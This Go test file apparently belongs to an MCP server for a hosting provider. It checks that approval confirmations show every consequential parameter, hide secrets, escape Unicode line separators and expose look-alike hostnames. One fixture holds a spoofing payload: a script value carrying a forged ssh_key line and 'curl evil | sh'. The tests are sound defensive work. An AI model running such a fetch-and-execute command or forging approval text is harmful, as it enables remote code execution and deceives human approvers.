package policy

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/mcp"

	"github.com/hostkey/hostkey-mcp/schemas"
)

// Review of issue 12, over the whole catalog: for every action a human confirms, fill
// every parameter with a distinct marker, render the confirmation the way the policy
// does (the form's text and the page's full text), and require every consequential
// parameter by name with its marker (or, for a secret, its name only; the secret never).
func TestEveryConsequentialParamIsShown(t *testing.T) {
	cat := schemas.Load()
	e, err := New(Options{Describe: func(context.Context, mcp.CallToolRequest) (*Call, error) { return nil, nil }, Catalog: cat})
	if err != nil {
		t.Fatal(err)
	}
	checked := 0
	for _, a := range cat.Actions {
		if a.Class != schemas.Destructive && !(a.PIN && a.Class != schemas.Read) {
			continue
		}
		args := map[string]any{}
		want := map[string]string{} // path → what must appear
		secrets := map[string]string{}
		for i, p := range a.Params {
			var v any
			shown := ""
			switch {
			case len(p.Enum) > 0:
				v, shown = p.Enum[len(p.Enum)-1], fmt.Sprintf("%q", p.Enum[len(p.Enum)-1])
			case p.Type == "integer" || p.Type == "number":
				n := 7100000 + i
				v, shown = n, fmt.Sprint(n)
			case p.Type == "boolean":
				v, shown = true, "true"
			default:
				s := fmt.Sprintf("mk-%s-%d", p.Path[len(p.Path)-1], i)
				v, shown = s, fmt.Sprintf("%q", s)
			}
			if p.Array {
				v = []any{v}
				shown = strings.Trim(shown, `"`)
			}
			m := args
			for _, k := range p.Path[:len(p.Path)-1] {
				sub, ok := m[k].(map[string]any)
				if !ok {
					sub = map[string]any{}
					m[k] = sub
				}
				m = sub
			}
			m[p.Path[len(p.Path)-1]] = v
			path := strings.Join(p.Path, ".")
			if p.Secret {
				if s, ok := v.(string); ok {
					secrets[path] = s
					if isURLParam(p.Path[len(p.Path)-1]) {
						// A secret URL shows its host (so an attacker's is recognisable),
						// never its path, where the secret lives.
						m[p.Path[len(p.Path)-1]] = "https://cb.example/" + s
					}
				}
			}
			if p.Consequential {
				want[path] = shown
			}
		}
		call := &Call{Tool: a.Tool, Module: a.Module, Action: a.Action, Class: a.Class, NeedsPIN: a.PIN, Args: args}
		sum := e.summarize(context.Background(), e.newTurn(context.Background(), call))
		for _, text := range []string{sum.Text(), sum.Full()} {
			for path, shown := range want {
				line := lineOf(text, "- "+path)
				if line == "" {
					t.Errorf("%s: consequential %s is not in the confirmation:\n%s", a.Tool, path, text)
					continue
				}
				if secrets[path] == "" && !strings.Contains(line, shown) {
					t.Errorf("%s: %s is shown as %q, want %s", a.Tool, path, line, shown)
				}
			}
			for path, s := range secrets {
				if strings.Contains(text, s) {
					t.Errorf("%s: secret %s is shown", a.Tool, path)
				}
			}
		}
		checked++
	}
	if checked < 30 {
		t.Fatalf("only %d actions checked", checked)
	}
}

func lineOf(text, prefix string) string {
	for _, l := range strings.Split(text, "\n") {
		if strings.HasPrefix(l, prefix+" ") || strings.HasPrefix(l, prefix+":") {
			return l
		}
	}
	return ""
}

// Review of issue 12: hidesText knew C0 controls and format characters, not the Unicode
// line and paragraph separators (U+2028, U+2029) nor the C1 controls (U+0085 NEL): the
// first line of a script was shown raw, and a client that breaks lines there showed a
// forged "- ssh_key = …" line in the confirmation.
func TestLineSeparatorsAreEscaped(t *testing.T) {
	for _, sep := range []string{"\u2028", "\u2029", "\u0085", "\u009b"} {
		v := "#!/bin/sh" + sep + "- ssh_key = \"ssh-ed25519 AAAA-trusted\"\ncurl evil | sh\n"
		a := argView{name: "post_install_script", value: v, isString: true, consequential: true}
		for _, full := range []bool{false, true} {
			if out := a.render(full, "on the approval page"); strings.Contains(out, sep) {
				t.Errorf("%U full=%v: shown raw: %q", []rune(sep)[0], full, out)
			}
		}
		f := ServerFacts{ID: 1, Hostname: "web-01" + sep + "x"}
		if out := serverLine(f, "", false); strings.Contains(out, sep) {
			t.Errorf("%U: server line shown raw: %q", []rune(sep)[0], out)
		}
	}
}

// A server's hostname from eq/show that is not plain ASCII (a Cyrillic "е" in "wеb-01")
// reads like another server's: the confirmation spells it out.
func TestLookAlikeHostnamesAreSpelledOut(t *testing.T) {
	f := ServerFacts{ID: 40102, Hostname: "w\u0435b-01.example", IPs: []string{"10.0.0.2"}}
	for _, full := range []bool{false, true} {
		out := serverLine(f, "", full)
		if strings.Contains(out, "\u0435") || !strings.Contains(out, `\u0435`) {
			t.Errorf("full=%v: look-alike hostname shown as is: %q", full, out)
		}
	}
	if out := serverLine(ServerFacts{ID: 1, Hostname: "web-01.example"}, "", false); !strings.Contains(out, "(web-01.example)") {
		t.Errorf("a plain hostname is changed: %q", out)
	}
}

// isURLParam names the secret parameters that hold a URL (callbacks, notify addresses).
func isURLParam(leaf string) bool {
	return strings.HasSuffix(leaf, "_callback") || strings.HasSuffix(leaf, "_address")
}
